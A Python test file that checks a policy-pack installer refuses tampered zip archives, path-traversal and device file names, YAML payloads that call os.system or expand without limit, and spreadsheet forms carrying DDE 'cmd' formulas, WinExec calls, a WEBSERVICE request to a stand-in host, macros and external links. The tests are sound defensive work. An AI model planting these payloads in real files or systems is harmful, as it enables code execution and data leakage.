"""Issue 13: what else a stick may bring. Each is refused in one sentence, the old pack serves on, and nothing is left anywhere.

`test_packfile` has the plain ones (a bit, a cut, a link, a bomb); here are the zips that say of themselves what is not so, the YAML that
grows or means to run something, and the forms that would.
"""

from __future__ import annotations

import io
import shutil
import struct
import zipfile
from collections.abc import Callable, Iterator
from datetime import date
from pathlib import Path

import openpyxl
import pytest

from pinggu_desk.documents.sheet.running import running
from pinggu_desk.policy.errors import BadPack, DeskError
from pinggu_desk.policy.pack import load_pack
from pinggu_desk.policy.packfile import MANIFEST, PackFile, make_pack_file, signed
from pinggu_desk.policy.resources import choose_pack
from pinggu_desk.work.forms import draw_forms
from pinggu_desk.work.packs.store import PackStore
from tests.assess.packs import Small
from tests.work.packs.samples import OURS, folder, pack_of, sample, store, written

FIRST, SECOND = date(2026, 1, 1), date(2027, 1, 1)
DISTRICT = Path(__file__).parents[2] / "data" / "district"


@pytest.fixture(autouse=True)
def _alone(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    monkeypatch.setattr(PackStore, "_keep_built_in", lambda self: None)
    yield
    choose_pack(None)


@pytest.fixture
def packs(tmp_path: Path) -> PackStore:
    """A store in which one pack serves."""
    made = store(tmp_path / "desk")
    made.install(sample(tmp_path, "serving", "30万元", FIRST))
    return made


def tree(root: Path) -> dict[str, bytes]:
    """Every file below a folder, with what is in it (``packs.lock`` is taken by each try)."""
    found = {}
    for path in sorted(root.rglob("*")):
        if path.is_file() and path.name != "packs.lock":
            found[path.relative_to(root).as_posix()] = path.read_bytes()
    return found


def refused(packs: PackStore, raw: bytes, tmp_path: Path) -> str:
    """The one sentence in which these bytes are refused; whatever lay on the disk lies there as it did."""
    stick = tmp_path / "stick.pack"
    stick.write_bytes(raw)
    before = tree(tmp_path)
    serving = packs.serving()
    with pytest.raises(DeskError) as caught:
        packs.install(stick)
    assert tree(tmp_path) == before and packs.serving() == serving
    assert packs.verified(serving).manifest.edition == "2026.01-1"
    sentence = caught.value.sentence
    assert sentence.endswith(("。", "处）")) and "\n" not in sentence, sentence
    return sentence


# --- zips that say of themselves what is not so


def good(tmp_path: Path) -> bytes:
    return written(tmp_path / "good.pack", pack_of(folder(tmp_path / "good", "50万元"), SECOND)).read_bytes()


def central(raw: bytes, at: int = 1) -> int:
    """Where the entry of the ``at``-th part stands in the directory."""
    place = struct.unpack("<I", raw[-6:-2])[0]
    for _ in range(at):
        name, extra, comment = struct.unpack("<HHH", raw[place + 28 : place + 34])
        place += 46 + name + extra + comment
    return int(place)


def put(raw: bytes, place: int, data: bytes) -> bytes:
    return raw[:place] + data + raw[place + len(data) :]


def renamed(old: bytes, new: bytes) -> Callable[[bytes], bytes]:
    """A part under another name of the same length, in the directory and before its bytes."""
    assert len(old) == len(new)
    return lambda raw: raw.replace(old, new)


def with_extra(raw: bytes) -> bytes:
    """A zip64 field that says that a part is larger than it is."""
    place = central(raw)
    name = struct.unpack("<H", raw[place + 28 : place + 30])[0]
    field = struct.pack("<HHQ", 1, 8, 1 << 40)
    out = put(raw, place + 30, struct.pack("<H", len(field)))
    out = put(out, place + 24, b"\xff\xff\xff\xff")
    end = place + 46 + name
    out = out[:end] + field + out[end:]
    return put(out, len(out) - 10, struct.pack("<I", struct.unpack("<I", out[-10:-6])[0] + len(field)))


FACTS, TEXT = b"facts.yaml", b"policies/xx/text.md"
ZIPS: dict[str, Callable[[bytes], bytes]] = {
    "a part locked by a password": lambda raw: put(raw, central(raw) + 8, struct.pack("<H", 1)),
    "a check sum of other bytes": lambda raw: put(raw, central(raw) + 16, b"\x01\x02\x03\x04"),
    "a part that is larger than the file": lambda raw: put(raw, central(raw) + 20, struct.pack("<II", 1 << 30, 1 << 30)),
    "a zip64 size": with_extra,
    "a part that begins beyond the file": lambda raw: put(raw, central(raw) + 42, struct.pack("<I", 1 << 30)),
    "a number of parts that is not so": lambda raw: put(raw, len(raw) - 14, struct.pack("<HH", 1400, 1400)),
    "a directory that begins elsewhere": lambda raw: put(raw, len(raw) - 6, struct.pack("<I", 7)),
    "a directory without end": lambda raw: put(raw, len(raw) - 10, struct.pack("<I", 0xFFFFFFFF)),
    "on another disk": lambda raw: put(raw, len(raw) - 18, struct.pack("<H", 1)),
    "a device": lambda raw: put(raw, central(raw) + 38, struct.pack("<I", 0o020666 << 16)),
    "a pipe": lambda raw: put(raw, central(raw) + 38, struct.pack("<I", 0o010666 << 16)),
    "a link": lambda raw: put(raw, central(raw) + 38, struct.pack("<I", 0o120777 << 16)),
    "another name before the bytes than in the directory": lambda raw: raw.replace(FACTS, b"facts.yamm", 1),
    "a name in capitals": renamed(FACTS, b"FACTS.yaml"),
    "a name with a dot behind": renamed(FACTS, b"facts.yam."),
    "a name with a space behind": renamed(FACTS, b"facts.yam "),
    "a stream of a file": renamed(FACTS, b"facts:yaml"),
    "a name of a device": renamed(TEXT, b"policies/nul/x.yaml"),
    "a drive": renamed(FACTS, b"C:acs.yaml"),
    "a way up": renamed(FACTS, b"../ts.yaml"),
    "a way up by the other stroke": renamed(FACTS, b"..\\ts.yaml"),
    "the root of the disk": renamed(FACTS, b"/acts.yaml"),
    "somebody's home": renamed(FACTS, b"~/cts.yaml"),
    "an unseen letter": renamed(FACTS, b"fac\x00s.yaml"),
    "one that turns the writing": renamed(FACTS, "\u202efac.yml".encode()[:10]),
    "a second of the same name": renamed(b"readings.yaml", b"workdays.yaml"),
    "something in front": lambda raw: b"PK\x03\x04" + raw,
    "a word behind": lambda raw: raw[:-2] + struct.pack("<H", 4) + b"more",
    "nothing at all": lambda raw: b"",
    "no zip": lambda raw: b"PK\x03\x04" + bytes(100),
    "only an end": lambda raw: b"PK\x05\x06" + bytes(18),
}  # fmt: skip


def test_no_zip_that_says_of_itself_what_is_not_so_is_installed(packs: PackStore, tmp_path: Path) -> None:
    raw = good(tmp_path)
    for what, change in ZIPS.items():
        changed = change(raw)
        assert changed != raw, what
        refused(packs, changed, tmp_path)
    packs.install(tmp_path / "good.pack")
    assert packs.now() is not None, "and the true one is installed"


@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_no_name_leads_out_of_the_folder_even_in_a_zip_of_the_right_form(packs: PackStore, tmp_path: Path) -> None:
    """Written by a zip program, not cut together: names that one system or another would follow."""
    names = (
        "../x", "..\\x", "/etc/x", "//host/x", "\\\\host\\x", "C:\\x", "C:x", "policies/../../x", "policies/./x/policy.yaml",
        "facts.yaml:stream", "facts.yaml::$DATA", "CON", "con.yaml", "forms/aux.xlsx", "policies/com1/policy.yaml",
        "facts.yaml.", "facts.yaml ", "policies/xx./policy.yaml", "forms/xx.xlsx/", "FACTS.YAML", "ｆacts.yaml", "facts.yaml\n",
        "", " ", ".", "..", "a" * 60_000, "policies/" + "x/" * 500, "pack.bin", "forms/xx.xlsm", "policies/xx/run.py",
    )  # fmt: skip
    for name in names:
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as archive:
            for part, data in ((MANIFEST, b"{}"), ("facts.yaml", b"[]"), (name, b"x")):
                info = zipfile.ZipInfo("x", (1980, 1, 1, 0, 0, 0))
                info.filename = part
                archive.writestr(info, data)
        refused(packs, out.getvalue(), tmp_path)


# --- YAML that grows, or means to run something


def remade(pack: PackFile, **changed: bytes) -> PackFile:
    m = pack.manifest
    contents = {
        **pack.contents,
        **{name.replace("__", "/").replace("_yaml", ".yaml"): data for name, data in changed.items()},
    }
    return make_pack_file(
        contents, district=m.district, title=m.title, version=m.version, edition=m.edition, day=m.day, needs=m.needs
    )


def ours(pack: PackFile) -> bytes:
    return signed(pack, OURS.public, OURS.sign).to_bytes()


YAML: dict[str, bytes] = {
    "an object of Python": b"- !!python/object/apply:os.system ['touch ran']\n",
    "a name of Python": b"- !!python/name:os.system\n",
    "a tag of nobody": b"- !here {a: b}\n",
    "a word called a day": b"- {a: !!timestamp x}\n",
    "a word called a number": b"- {a: !!int x}\n",
    "a word called yes or no": b"- {a: !!bool x}\n",
    "a list called a table": b"- !!map [a]\n",
    "a table called a list": b"- !!seq {a: b}\n",
    "a table called pairs": b"- !!omap {a: b}\n",
    "bytes": b"- !!binary '!!'\n",
    "a number of a million digits": b"- {a: " + b"9" * 1_000_000 + b"}\n",
    "a number of a million digits to sixteen": b"- {a: 0x" + b"f" * 1_000_000 + b"}\n",
    "a number of a million bits": b"- {a: 0b" + b"1" * 1_000_000 + b"}\n",
    "a number to sixty without end": b"- {a: 1" + b":59" * 300_000 + b"}\n",
    "a number beyond all numbers": b"- {a: 1.0e+999999999}\n",
    "no number": b"- {a: .nan}\n",
    "a day that is none": b"- {a: 2026-02-30}\n",
    "a time far away": b"- {a: 9999-12-31 23:59:59-23:59}\n",
    "aliases of aliases": b"a: &a [x, x]\n" + b"".join(b"b%d: &b%d [*a, *a]\n" % (n, n) for n in range(9)),
    "one that holds itself": b"&a [*a]\n",
    "a merge": b"- &a {a: b}\n- {<<: *a}\n",
    "brackets in brackets": b"[" * 5_000 + b"]" * 5_000,
    "tables in tables": b"{a: " * 5_000 + b"}" * 5_000,
    "steps without end": b"\n".join(b" " * n + b"a:" for n in range(2_000)),
    "dashes without end": b"- " * 100_000,
    "keys that are lists": b"? [a, b]\n: c\n",
    "two files in one": b"a: b\n---\nc: d\n",
    "another coding": "名: 甲".encode("utf-16"),
    "unseen letters": b"- a\x00b\n",
    "nothing but a mark": b"\xef\xbb\xbf",
}  # fmt: skip


@pytest.mark.parametrize("file", ["facts_yaml", "readings_yaml", "policies__xx__policy_yaml", "parameters_yaml"])
def test_no_yaml_grows_or_runs(packs: PackStore, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, file: str) -> None:
    monkeypatch.chdir(tmp_path)
    pack = pack_of(folder(tmp_path / "good", "50万元"), SECOND)
    for what, words in YAML.items():
        sentence = refused(packs, ours(remade(pack, **{file: words})), tmp_path)
        assert "政策包不能使用" in sentence or what == "nothing but a mark", (what, sentence)
    assert not (tmp_path / "ran").exists()


def test_a_term_of_thousands_of_years_is_a_finding_and_no_fault(tmp_path: Path) -> None:
    """`check` ended as our fault on 9999年: the last day lies in no calendar."""
    for term in ("9999年", "999999天", "99999个工作日"):
        with pytest.raises(BadPack, match="太长，最长 100 年"):
            Small(
                "1元", {"xx.1": f"{term}内给予1元。"}, benefit=f"    时限: {{起: 上市日, 内: {term}, 逾期: 不予受理}}\n"
            ).engine(tmp_path / term)
        with pytest.raises(BadPack, match="太长，最长 100 年"):
            Small("1元", {"xx.1": f"满{term}给予1元。"}, condition=f"{{成立日: 满 {term}}}").engine(
                tmp_path / f"满{term}"
            )


# --- forms that would run something, or reach out


@pytest.fixture(scope="module")
def district(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The made-up district's pack with forms drawn for it, in a folder."""
    root = tmp_path_factory.mktemp("district") / "pack"
    shutil.copytree(DISTRICT, root)
    (root / "forms").mkdir()
    for path in draw_forms(load_pack(root), [], str(root / "forms")):
        assert path.is_file()
    return root


def with_cell(value: str) -> Callable[[Path], None]:
    def change(path: Path) -> None:
        book = openpyxl.load_workbook(path)
        book.worksheets[0]["A400"] = value
        book.save(path)

    return change


def with_part(name: str, data: bytes = b"x") -> Callable[[Path], None]:
    def change(path: Path) -> None:
        with zipfile.ZipFile(path, "a") as package:
            package.writestr(name, data)

    return change


_RELATION = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">%s</Relationships>'
_PICTURE = '<Relationship Id="rId1" Type="http://x/image" Target="\\\\host\\share\\x.png" TargetMode="External"/>'
FORMS: dict[str, tuple[str, Callable[[Path], None]]] = {
    "a program by DDE": ("公式", with_cell("=cmd|' /C calc'!A0")),
    "a program by DDE in quotes": ("公式", with_cell("='cmd'|'/C calc'!A0")),
    "another workbook": ("公式", with_cell(r"='C:\x\[y.xlsx]Sheet1'!A1")),
    "a web page fetched": ("公式", with_cell('=WEBSERVICE("http://x.invalid/"&A1)')),
    "a library called": ("公式", with_cell('=CALL("Kernel32","WinExec","JCJ","calc",0)')),
    "macros": ("宏", with_part("xl/vbaProject.bin")),
    "old macros": ("宏工作表", with_part("xl/macrosheets/sheet1.xml")),
    "controls": ("ActiveX", with_part("xl/activeX/activeX1.bin")),
    "a file in it": ("嵌入的文件", with_part("xl/embeddings/oleObject1.bin")),
    "a connection": ("数据连接", with_part("xl/connections.xml")),
    "a picture from elsewhere": ("连到外面", with_part("xl/drawings/_rels/drawing1.xml.rels", (_RELATION % _PICTURE).encode())),
}  # fmt: skip


def test_what_would_run_or_reach_out_is_found_in_a_form(district: Path, tmp_path: Path) -> None:
    for path in sorted((district / "forms").glob("*.xlsx")):
        assert running(path.read_bytes()) == (), path.name
    form = tmp_path / "form.xlsx"
    for what, (words, change) in FORMS.items():
        shutil.copyfile(district / "forms" / "czfz.xlsx", form)
        change(form)
        assert words in "".join(running(form.read_bytes())), what


def test_a_pack_with_such_a_form_is_not_installed(packs: PackStore, tmp_path: Path, district: Path) -> None:
    root = tmp_path / "theirs"
    shutil.copytree(district, root)
    said = root / "district.yaml"
    said.write_text(said.read_text("utf-8").replace("版次: '2026.1'", "版次: '2027.1'"), "utf-8")
    FORMS["a picture from elsewhere"][1](root / "forms" / "czfz.xlsx")
    sentence = refused(packs, ours(pack_of(root, SECOND)), tmp_path)
    assert "forms/czfz.xlsx" in sentence and "政策包不收会运行或者连到外面的内容" in sentence
